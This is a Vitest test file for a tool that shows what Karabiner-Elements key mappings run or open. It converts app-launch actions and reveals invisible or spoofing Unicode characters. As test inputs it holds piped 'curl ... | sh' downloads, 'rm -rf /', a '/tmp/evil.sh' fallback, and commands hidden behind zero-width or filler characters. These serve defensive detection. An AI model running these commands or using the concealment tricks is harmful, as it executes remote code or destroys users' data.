import { describe, expect, it } from 'vitest';
import { convertOpeners, otherOpener } from './actions';
import { commandsOf, visibleText, type Command } from './commands';
import type { JsonObject } from './json';

const HELPER = '/Applications/Tarvel.app/Contents/MacOS/tarvel-focus';
const on = (to: JsonObject[], extra: JsonObject = {}) => ({ type: 'basic', from: { key_code: 'a' }, to, ...extra });
const brief = (cs: Command[]) => cs.map((c) => [c.kind, c.text, c.warning ?? null]);

describe('what a manipulator runs or opens, in full', () => {
  const lookup = (id: string) => (id === 'com.apple.Safari' ? '/Applications/Safari.app' : undefined);
  it.each<[string, JsonObject, [string, string, string | null][]]>([
    ['a piped download is a shell command, never shortened', on([{ shell_command: `curl -fsSL https://example.com/${'x'.repeat(80)} | sh` }]), [['shell', `curl -fsSL https://example.com/${'x'.repeat(80)} | sh`, null]]],
    ['a Shortcut', on([{ shell_command: "/usr/bin/shortcuts run 'Start Focus'" }]), [['shortcut', "/usr/bin/shortcuts run 'Start Focus'", null]]],
    ['tarvel-focus with the app’s own bundle', on([{ shell_command: `'${HELPER}' --name 'Safari' --bundle-id 'com.apple.Safari' --fallback '/Applications/Safari.app'` }]),
      [['focusApplication', `'${HELPER}' --name 'Safari' --bundle-id 'com.apple.Safari' --fallback '/Applications/Safari.app'`, null]]],
    ['tarvel-focus whose fallback is a script', on([{ shell_command: `'${HELPER}' --name 'Safari' --bundle-id 'com.apple.Safari' --fallback '/tmp/evil.sh'` }]),
      [['focusApplication', `'${HELPER}' --name 'Safari' --bundle-id 'com.apple.Safari' --fallback '/tmp/evil.sh'`, 'fallbackNotApp']]],
    ['tarvel-focus whose fallback is another app', on([{ shell_command: `'${HELPER}' --name 'Safari' --bundle-id 'com.apple.Safari' --fallback '/Users/me/Safari.app'` }]),
      [['focusApplication', `'${HELPER}' --name 'Safari' --bundle-id 'com.apple.Safari' --fallback '/Users/me/Safari.app'`, 'fallbackMismatch']]],
    ['open_application by bundle id and by path, a file that is no app', on([
      { software_function: { open_application: { bundle_identifier: 'com.apple.Terminal' } } },
      { software_function: { open_application: { file_path: '/usr/share/applications/firefox.desktop' } } },
      { software_function: { open_application: { file_path: '/Users/me/run.command' } } },
    ]), [['openApplication', 'com.apple.Terminal', null], ['openApplication', '/usr/share/applications/firefox.desktop', null], ['openFile', '/Users/me/run.command', 'notApp']]],
    ['commands in every list, in the simultaneous options too', {
      type: 'basic', from: { simultaneous: [{ key_code: 'j' }, { key_code: 'k' }], simultaneous_options: { to_after_key_up: { shell_command: 'c' } } },
      to_if_alone: { shell_command: 'a' }, to_delayed_action: { to_if_canceled: [{ shell_command: 'b' }] },
    }, [['shell', 'a', null], ['shell', 'b', null], ['shell', 'c', null]]],
    ['keys only', on([{ key_code: 'b' }]), []],
  ])('%s', (_n, man, expected) => expect(brief(commandsOf(man, lookup))).toEqual(expected));

  it('anything that is not a manipulator runs nothing', () => expect(commandsOf('rm -rf /')).toEqual([]));
});

describe('app actions written the other way: tarvel-focus and Karabiner-Elements’ open_application', () => {
  const focus = (args: string) => ({ shell_command: `'${HELPER}' ${args}` });
  const open = (o: JsonObject) => ({ software_function: { open_application: o } });
  const lookup = (id: string) => (id === 'com.apple.Safari' ? '/Applications/Safari.app' : undefined);
  const names = (id: string) => (id === 'com.apple.Safari' ? 'Safari' : undefined);
  it.each<[string, JsonObject, 'engine' | 'helper', JsonObject | undefined]>([
    ['by identifier, flags kept', { ...focus("--name 'Safari' --bundle-id 'com.apple.Safari' --fallback '/Applications/Safari.app'"), repeat: false }, 'engine',
      { ...open({ bundle_identifier: 'com.apple.Safari' }), repeat: false }],
    ['by path when there is no identifier', focus("--name 'Notes' --fallback '/Applications/Notes.app'"), 'engine', open({ file_path: '/Applications/Notes.app' })],
    ['a name alone says nothing open_application can', focus("--name 'Notes'"), 'engine', undefined],
    ['a shell command is no app action', { shell_command: 'open -a Safari' }, 'engine', undefined],
    ['back: the name and the path from the inventory', open({ bundle_identifier: 'com.apple.Safari' }), 'helper',
      focus("--name 'Safari' --bundle-id 'com.apple.Safari' --fallback '/Applications/Safari.app'")],
    ['back: an identifier the inventory does not know', open({ bundle_identifier: 'org.example.x' }), 'helper', focus("--bundle-id 'org.example.x'")],
    ['back: an application’s path', open({ file_path: '/Applications/Notes.app' }), 'helper', focus("--name 'Notes' --fallback '/Applications/Notes.app'")],
    ['a file is not an application', open({ file_path: '/Users/me/run.command' }), 'helper', undefined],
    ['“the app before” has no tarvel-focus form', open({ frontmost_application_history_index: 1 }), 'helper', undefined],
  ])('%s', (_name, e, to, expected) => expect(otherOpener(e, to, HELPER, lookup, names)).toEqual(expected));

  it('every result list is rewritten, the rest stays the same objects; what runs is shown either way', () => {
    const safari = focus("--name 'Safari' --bundle-id 'com.apple.Safari' --fallback '/Applications/Safari.app'");
    const keys = on([{ key_code: 'b' }]);
    const man = on([safari], { to_if_alone: safari, to_delayed_action: { to_if_invoked: [{ key_code: 'c' }, safari] } });
    const out = convertOpeners([keys, man], 'engine', HELPER);
    expect(out.count).toBe(3);
    expect(out.manipulators[0]).toBe(keys);
    expect(brief(commandsOf(out.manipulators[1]))).toEqual([['openApplication', 'com.apple.Safari', null], ['openApplication', 'com.apple.Safari', null], ['openApplication', 'com.apple.Safari', null]]);
    const back = convertOpeners(out.manipulators, 'helper', HELPER, lookup, names);
    expect(back.manipulators[1]).toEqual(man);
    expect(convertOpeners([man], 'helper', HELPER).count).toBe(0);
    expect(convertOpeners(out.manipulators, 'helper', undefined).count).toBe(0);
  });
});

describe('invisible characters are made visible', () => {
  it.each([
    ['open /Applications/\u202Eppa.irafaS', 'open /Applications/⟨U+202E⟩ppa.irafaS'],
    ['rm\u200B -rf', 'rm⟨U+200B⟩ -rf'],
    ['a\u00A0b\u3000c', 'a⟨U+00A0⟩b⟨U+3000⟩c'],
    ['echo a\necho b\tc', 'echo a⟨U+000A⟩\necho b⟨U+0009⟩c'],
    ['\uFEFFx\u2066y\u2069', '⟨U+FEFF⟩x⟨U+2066⟩y⟨U+2069⟩'],
    ['日本語のアプリ 🎹 é', '日本語のアプリ 🎹 é'],
  ])('%j', (text, shown) => expect(visibleText(text)).toBe(shown));
});

describe('letters that draw nothing and piles of marks are made visible', () => {
  it.each([
    ['Hangul fillers pushing the tail away', 'open -a Safari\u3164\u3164; curl x | sh', 'open -a Safari⟨U+3164⟩⟨U+3164⟩; curl x | sh'],
    ['the other Hangul fillers', '\u115F\u1160\uFFA0', '⟨U+115F⟩⟨U+1160⟩⟨U+FFA0⟩'],
    ['the blank Braille pattern', 'a\u2800b', 'a⟨U+2800⟩b'],
    ['Mongolian separators and selectors', '\u180B\u180E\u180F', '⟨U+180B⟩⟨U+180E⟩⟨U+180F⟩'],
    ['word joiner and invisible operators', '\u2060\u2061\u2062\u2063\u2064', '⟨U+2060⟩⟨U+2061⟩⟨U+2062⟩⟨U+2063⟩⟨U+2064⟩'],
    ['combining grapheme joiner', 'a\u034Fb', 'a⟨U+034F⟩b'],
    ['variation selectors', 'x\uFE00\u2764\uFE0F\u{E0100}\u{E01EF}', 'x⟨U+FE00⟩\u2764⟨U+FE0F⟩⟨U+E0100⟩⟨U+E01EF⟩'],
    ['tag characters', '\u{E0001}\u{E0020}\u{E0041}\u{E007F}', '⟨U+E0001⟩⟨U+E0020⟩⟨U+E0041⟩⟨U+E007F⟩'],
    ['musical null notehead and format controls', '\u{1D159}\u{1D173}\u{1D17A}', '⟨U+1D159⟩⟨U+1D173⟩⟨U+1D17A⟩'],
    ['Khmer inherent vowels, Khitan filler, shorthand format controls', '\u17B4\u17B5\u{16FE4}\u{1BCA0}', '⟨U+17B4⟩⟨U+17B5⟩⟨U+16FE4⟩⟨U+1BCA0⟩'],
    ['a pile of marks: two stay, the rest shown', 'e\u0301\u0302\u0303\u0304', 'e\u0301\u0302⟨U+0303⟩⟨U+0304⟩'],
    ['each base counts its own marks', 'a\u0301\u0301b\u0301\u0301', 'a\u0301\u0301b\u0301\u0301'],
    ['marks with no base, or on a character that is shown', '\u0301x\n\u0301\u3164\u0308', '⟨U+0301⟩x⟨U+000A⟩\n⟨U+0301⟩⟨U+3164⟩⟨U+0308⟩'],
    ['writing that uses marks stays', 'Vie\u0323\u0302t हिन्दी กิ่ 가', 'Vie\u0323\u0302t हिन्दी กิ่ 가'],
  ])('%s', (_name, text, shown) => expect(visibleText(text)).toBe(shown));
});
